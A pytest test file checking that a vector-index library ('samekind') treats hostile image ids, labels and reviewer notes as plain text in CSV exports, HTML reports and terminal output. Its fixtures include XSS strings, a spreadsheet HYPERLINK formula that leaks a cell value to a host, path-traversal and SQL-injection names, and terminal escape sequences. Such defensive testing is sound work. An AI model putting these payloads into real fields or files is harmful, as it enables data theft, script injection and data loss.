"""Ids, class names and notes that mean something to a browser, a spreadsheet or a file system are text, wherever they are shown."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest

import samekind as sk
from tests.end_to_end.helpers import call, refused

HTML = "\"><img src=x onerror=alert(1)><script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"hat")'
IDS = (
    "../../escaped.png",
    "/etc/escaped.png",
    "..\\..\\escaped.png",
    "C:\\escaped.png",
    "nul\x00byte.png",
    "two\nlines.png",
    "\u202egnp.exe",
    "\x1b[2J\x1b]0;owned\x07.png",
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    HTML,
    "![x](http://example.org/x.png)",
    "'; DROP TABLE images; --",
    "%2e%2e%2fescaped.png",
    "x" * 5000,
    " ",
)
LABELS = (FORMULA, HTML, "-1", "'=1", "@hat", "\ttab", "[x](javascript:alert(1))", 'a,b;c"d')


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of given vectors whose ids and labels are all hostile, in pairs that look alike and differ in their label."""
    folder = tmp_path_factory.mktemp("named") / "out"
    centres = np.random.default_rng(0).normal(size=(len(IDS), 8))
    vectors = np.concatenate([centres, centres + np.random.default_rng(1).normal(scale=0.01, size=centres.shape)])
    ids = [*IDS, *(f"{id_}~" for id_ in IDS)]
    labels = [LABELS[i % len(LABELS)] for i in range(len(ids))]
    sk.index_vectors(vectors, ids, folder, labels=labels, splits=["train"] * len(ids))
    return folder


def cells(text: str) -> list[str]:
    """All cells of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_formula(cell: str) -> bool:
    """True for what a spreadsheet would compute; a number is none."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_ids_are_found_as_they_are(named: Path) -> None:
    """By search and by removal, whatever is in them; nothing is read or written at the place that one names."""
    index = sk.Index.open(named)
    before = sorted(named.parent.rglob("*"))
    for id_ in IDS:
        assert {hit.id for hit in index.search_id(id_, 2)} == {id_, f"{id_}~"}
        assert index.picture(id_)
    assert sorted(named.parent.rglob("*")) == before


def test_no_export_holds_a_formula(named: Path, tmp_path: Path) -> None:
    """Audit, suspects, labels and verdicts; labels and notes come back as they were."""
    index = sk.Index.open(named)
    index.audit(k=3).to_csv(tmp_path / "audit.csv")
    assert call("suspects", named, "--csv", tmp_path / "lists").code == 0
    hashes = index.rows.column("sha256")
    labels = [label for label in LABELS if label == label.strip()]
    given = [sk.GivenLabel(sha256, label, who="=Ana") for sha256, label in zip(hashes, labels, strict=False)]
    sk.LabelTable(named).add(given)
    notes = [FORMULA, "+1", "'=1", "two\nlines", HTML]
    said = [sk.Verdict(hashes[0], hashes[i + 1], "same", "@Ana", note=note) for i, note in enumerate(notes)]
    sk.VerdictTable(named).add(said)
    sk.export_labels(named, tmp_path / "labels.csv")
    sk.export_verdicts(named, tmp_path / "verdicts.csv")
    files = [
        tmp_path / "audit.csv",
        tmp_path / "labels.csv",
        tmp_path / "verdicts.csv",
        *(tmp_path / "lists").iterdir(),
    ]
    assert len(files) == 6
    texts = {file.name: file.read_bytes().decode() for file in files}
    assert {name: found for name, text in texts.items() if (found := [c for c in cells(text) if is_formula(c)])} == {}
    assert FORMULA in "".join(cells(texts["audit.csv"])), "the guard changes the beginning only"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert sk.import_labels(elsewhere, tmp_path / "labels.csv").added == len(given)
    assert sk.import_verdicts(elsewhere, tmp_path / "verdicts.csv").added == len(said)
    assert set(sk.LabelTable(elsewhere).all()) == set(given)
    assert set(sk.VerdictTable(elsewhere).all()) == set(said)
    assert sk.import_verdicts(named, tmp_path / "verdicts.csv").added == 0


def test_the_report_shows_text(named: Path, tmp_path: Path) -> None:
    """No mark-up of a name is mark-up of the page, and nothing is fetched."""
    index = sk.Index.open(named)
    index.audit(k=3).to_html(tmp_path / "audit.html", index)
    page = (tmp_path / "audit.html").read_text()
    for forbidden in ("<script", "<img src=x", 'javascript:alert(1)"', 'src="http', 'href="javascript'):
        assert forbidden not in page.replace("&#34;", "&quot;"), forbidden


def test_a_line_on_the_terminal_is_one_line(named: Path) -> None:
    """Ids that hold line ends and control characters of a terminal do neither split a table nor reach it as they are."""
    called = call("search", named, "--like", "two\nlines.png", "--k", 5)
    assert called.code == 0, called.err
    assert len(called.out.splitlines()) == 6
    everything = call("search", named, "--like", "\x1b[2J\x1b]0;owned\x07.png", "--k", len(IDS) * 2)
    assert "\x1b" not in everything.out
    assert "\x07" not in everything.out
    assert "\x1b" not in refused("search", named, "--like", "\x1b[2Jnobody")
